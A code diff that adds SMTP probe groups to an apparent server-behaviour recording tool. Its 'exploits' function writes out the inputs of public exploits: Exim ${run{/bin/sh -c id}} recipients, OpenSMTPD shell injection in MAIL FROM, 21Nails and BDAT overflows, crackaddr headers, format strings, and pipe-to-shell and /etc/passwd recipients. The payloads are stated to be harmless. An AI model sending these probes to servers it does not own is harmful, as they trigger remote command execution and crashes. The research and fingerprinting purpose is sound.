@@ -751,6 +751,119 @@ def after_helo() -> list[tuple[str, str, list]]:
     return probes
 
 
+def exploits() -> list[tuple[str, str, list]]:
+    """The inputs public exploits for SMTP servers send, as their proof-of-concept code sends them
+    (the payloads harmless: `id`, `sleep`): CVE-2019-10149's ${run} recipients, CVE-2020-7247's
+    shell in a sender and its payload as a message, 21Nails' AUTH= and option values
+    (CVE-2020-28021, -28022), BDAT's (CVE-2017-16943, -16944), AUTH's base64 (CVE-2018-6789),
+    PROXY protocol headers sent to a server that expects none (CVE-2023-42117), Sendmail's
+    crackaddr() headers (CVE-2002-1337) and prescan() addresses (CVE-2003-0694). What each real
+    server answers, and where it hangs up."""
+    data, quit_ = ("send", b"DATA\r\n", 1), QUIT
+
+    def rcpt(address: bytes) -> tuple[str, bytes, int]:
+        return ("send", b"RCPT TO:<" + address + b">\r\n", 1)
+
+    def mail(argument: bytes) -> tuple[str, bytes, int]:
+        return ("send", b"MAIL FROM:" + argument + b"\r\n", 1)
+
+    wizard = b"${run{\\x2Fbin\\x2Fsh\t-c\t\\x22id\\x22}}"
+    smtpd_payload = b"\r\n".join(b"#%d" % n for n in range(14)) + b"\r\nid\r\n"
+    group = [
+        ("cve_2019_10149_local", "RCPT TO:<${run{...}}@localhost> (the Return of the WIZard's local form)",
+         [EHLO, mail(b"<>"), rcpt(wizard + b"@localhost"), data, ("send", b"Received: 1\r\n" * 31 + b".\r\n", 1)]),
+        ("cve_2019_10149_tagged", "RCPT TO:<root+${run{...}}@localhost>", [EHLO, mail(b"<>"),
+                                                                          rcpt(b"root+" + wizard + b"@localhost")]),
+        ("cve_2019_10149_here", "RCPT TO:<${run{...}}@mail.example.com>",
+         [EHLO, mail(b"<>"), rcpt(wizard + b"@mail.example.com")]),
+        ("cve_2019_10149_sender", "MAIL FROM:<${run{...}}@client.example.org>",
+         [EHLO, mail(b"<" + wizard + b"@client.example.org>"), RCPT]),
+        ("cve_2020_7247_sleep", "MAIL FROM:<;sleep 66;>", [HELO, mail(b"<;sleep 66;>"), RCPT]),
+        ("cve_2020_7247_payload", "MAIL FROM:<;for i in ...;do read r;done;sh;exit 0;>, then the payload as a message",
+         [EHLO, mail(b"<;for i in 0 1 2 3 4 5 6 7 8 9 a b c d;do read r;done;sh;exit 0;>"),
+          rcpt(b"root"), data, ("send", smtpd_payload + b".\r\n", 1)]),
+        ("cve_2020_7247_root", "MAIL FROM:<;id;> and RCPT TO:<root>", [EHLO, mail(b"<;id;>"), rcpt(b"root")]),
+        ("cve_2020_28021", "MAIL FROM:<> AUTH=Raven+0AReyes (a newline in the AUTH= xtext)",
+         [EHLO, mail(b"<> AUTH=Raven+0AReyes"), RCPT]),
+        ("cve_2020_28021_long", "MAIL FROM:<> AUTH= and a long xtext of +0A",
+         [EHLO, mail(b"<> AUTH=" + b"+0A" * 200), RCPT]),
+        ("cve_2020_28022", "MAIL FROM:<> with an option value ending in a backslash",
+         [EHLO, mail(b"<> XXX=\\"), mail(b"<a@client.example.org> SIZE=1\\")]),
+        ("cve_2017_16943", "a BDAT chunk of DEL bytes, then an empty last one",
+         [EHLO, MAIL, RCPT, ("send", b"BDAT 10\r\n" + b"\x7f" * 10, 1), ("send", b"BDAT 0 LAST\r\n", 1)]),
+        ("cve_2017_16944", "BDAT with a dot line inside its chunk", [EHLO, MAIL, RCPT,
+                                                                     ("send", b"BDAT 10\r\n.\r\nabcdefg", 1),
+                                                                     ("send", b"BDAT 3 LAST\r\nxyz", 1)]),
+        ("cve_2018_6789", "AUTH CRAM-MD5 with a base64 of 4n+3 bytes", [EHLO, ("send", b"AUTH CRAM-MD5\r\n", 1),
+                                                                        ("send", b"d" * 27 + b"\r\n", 1)]),
+        ("proxy_v1", "a PROXY protocol v1 header first", [("send", b"PROXY TCP4 192.0.2.1 192.0.2.2 4444 25\r\n", 1),
+                                                          EHLO]),
+        ("proxy_v1_unknown", "PROXY UNKNOWN first", [("send", b"PROXY UNKNOWN\r\n", 1), HELO]),
+        ("proxy_v2", "a PROXY protocol v2 signature first",
+         [("send", b"\r\n\r\n\x00\r\nQUIT\n\x21\x11\x00\x0c\xc0\x00\x02\x01\xc0\x00\x02\x02\x11\x5c\x00\x19", None)]),
+        ("cve_2002_1337", "a From: header of 2,000 <> pairs (crackaddr's overflow)",
+         [EHLO, MAIL, RCPT, data, ("send", b"From: " + b"<>" * 2000 + b"\r\nSubject: x\r\n\r\nbody\r\n.\r\n", 1)]),
+        ("cve_2002_1337_comments", "a To: header of nested comments and angles",
+         [EHLO, MAIL, RCPT, data, ("send", b"To: " + b"(<>" * 500 + b"\r\nSubject: x\r\n\r\nbody\r\n.\r\n", 1)]),
+        ("cve_2003_0694", "RCPT TO: of 600 backslashed 0xFF and a domain",
+         [EHLO, MAIL, rcpt(b"\\\xff" * 600 + b"@mail.example.com")]),
+        ("etrn_format", "ETRN with printf conversions", [EHLO, ("send", b"ETRN %s%s%s%n\r\n", 1)]),
+        ("helo_format", "HELO with printf conversions", [("send", b"HELO %s%s%n%x\r\n", 1), MAIL]),
+        ("vrfy_format", "VRFY with printf conversions", [EHLO, ("send", b"VRFY %n%n%n\r\n", 1)]),
+        ("mail_shell", "MAIL FROM with a shell command in backquotes and $()",
+         [EHLO, mail(b"<`id`@client.example.org>"), ("send", b"RSET\r\n", 1), mail(b"<$(id)@client.example.org>")]),
+        ("rcpt_pipe", "RCPT TO:<|/bin/sh -c id> and a quoted pipe", [EHLO, MAIL, rcpt(b"|/bin/sh -c id"),
+                                                                      rcpt(b'"|/bin/sh -c id"@mail.example.com')]),
+        ("rcpt_file", "RCPT TO: a file path", [EHLO, MAIL, rcpt(b"/etc/passwd"),
+                                               rcpt(b'"/tmp/x"@mail.example.com')]),
+    ]
+    return [(name, desc, [("read", 1), *steps, quit_]) for name, desc, steps in group]
+
+
+def chunks() -> list[tuple[str, str, list]]:
+    """BDAT (RFC 3030) as clients and fuzzers write it: the size in other spellings, LAST in other
+    cases, chunks split inside a line or a CR LF, a dot line inside a chunk, bodies no client
+    sends (NUL, bare CR and LF, a line past 998 bytes), BDAT after the last chunk, and BDAT where
+    the server has no CHUNKING (every chunk is then read as commands)."""
+    def chunk(size: int | bytes, data: bytes, last: bool = False) -> tuple[str, bytes, int | None]:
+        head = size if isinstance(size, bytes) else b"%d" % size
+        return ("send", b"BDAT " + head + (b" LAST" if last else b"") + b"\r\n" + data, None)
+
+    def message(name: str, description: str, *steps: tuple) -> tuple[str, str, list]:
+        return name, description, [("read", 1), EHLO, MAIL, RCPT, *steps, QUIT]
+
+    body = b"Subject: x\r\n\r\nbody\r\n"
+    return [
+        message("leading_zeros", "BDAT 0020 LAST", chunk(b"0020", body, True)),
+        message("plus_sign", "BDAT +20 LAST", chunk(b"+20", body, True)),
+        message("two_blanks", "BDAT 20  LAST (two blanks)", ("send", b"BDAT 20  LAST\r\n" + body, None)),
+        message("tab", "BDAT 20<TAB>LAST", ("send", b"BDAT 20\tLAST\r\n" + body, None)),
+        message("last_lower", "BDAT 20 last", ("send", b"BDAT 20 last\r\n" + body, None)),
+        message("trailing_blank", "BDAT 20 LAST and a blank", ("send", b"BDAT 20 LAST \r\n" + body, None)),
+        message("hex", "BDAT 0x14 LAST", chunk(b"0x14", body, True)),
+        message("negative", "BDAT -1 LAST", chunk(b"-1", b"", True)),
+        message("split_in_line", "a message in two chunks split inside a line",
+                chunk(10, body[:10]), chunk(len(body) - 10, body[10:], True)),
+        message("split_in_crlf", "chunks split between a CR and its LF",
+                chunk(11, body[:11]), chunk(len(body) - 11, body[11:], True)),
+        message("dot_line_inside", "a chunk holding a dot line and a CRLF.CRLF (no end of data in BDAT)",
+                chunk(len(body) + 12, body + b".\r\nMAIL\r\n.\r\n", True)),
+        message("nul", "a chunk holding a NUL", chunk(len(body) + 4, body + b"a\x00b\n", True)),
+        message("bare_lf", "a chunk with bare LF line ends", chunk(22, b"Subject: x\n\nbody\nmore\n", True)),
+        message("bare_cr", "a chunk with a bare CR", chunk(len(body) + 5, body + b"a\rb\r\n", True)),
+        message("line_999", "a chunk with a line of 999 bytes", chunk(len(body) + 1001, body + b"z" * 999 + b"\r\n",
+                                                                       True)),
+        message("no_final_crlf", "a last chunk ending inside a line", chunk(len(body) + 4, body + b"tail", True)),
+        message("only_last_empty", "BDAT 0 LAST as the only chunk", chunk(0, b"", True)),
+        message("after_last", "BDAT after the last chunk", chunk(len(body), body, True), chunk(4, b"more", True)),
+        message("many_small", "a message in twelve chunks of two bytes and a last",
+                *[chunk(2, body[n : n + 2]) for n in range(0, 24, 2)], chunk(0, b"", True)),
+        ("before_mail", "BDAT before MAIL, then MAIL", [("read", 1), EHLO, chunk(4, b"abcd", True), MAIL, QUIT]),
+        ("after_helo", "BDAT after HELO, MAIL and RCPT", [("read", 1), HELO, MAIL, RCPT, chunk(len(body), body, True),
+                                                          QUIT]),
+    ]
+
+
 def auth(tls: bool = False) -> list[tuple[str, str, list]]:
     """SASL where sequence and encoding go wrong, and where they go right (the plain listener has
     no SASL: record against the Dovecot one, 127.0.0.1:2601, user "user", password "secret").
@@ -1148,7 +1261,8 @@ GROUPS = {"limits": limits, "errors": errors, "errors_brief": errors_brief, "lin
           "verbs": verbs, "helo_names": helo_names,
           "address_forms": address_forms, "pipelining": pipelining,
           "bodies": bodies, "line_lengths": line_lengths,
-          "transactions": transactions, "after_helo": after_helo}
+          "transactions": transactions, "after_helo": after_helo,
+          "exploits": exploits, "chunks": chunks}
 
 
 def connections(host: str, port: int, count: int = 52, source: str | None = None) -> list[dict]:
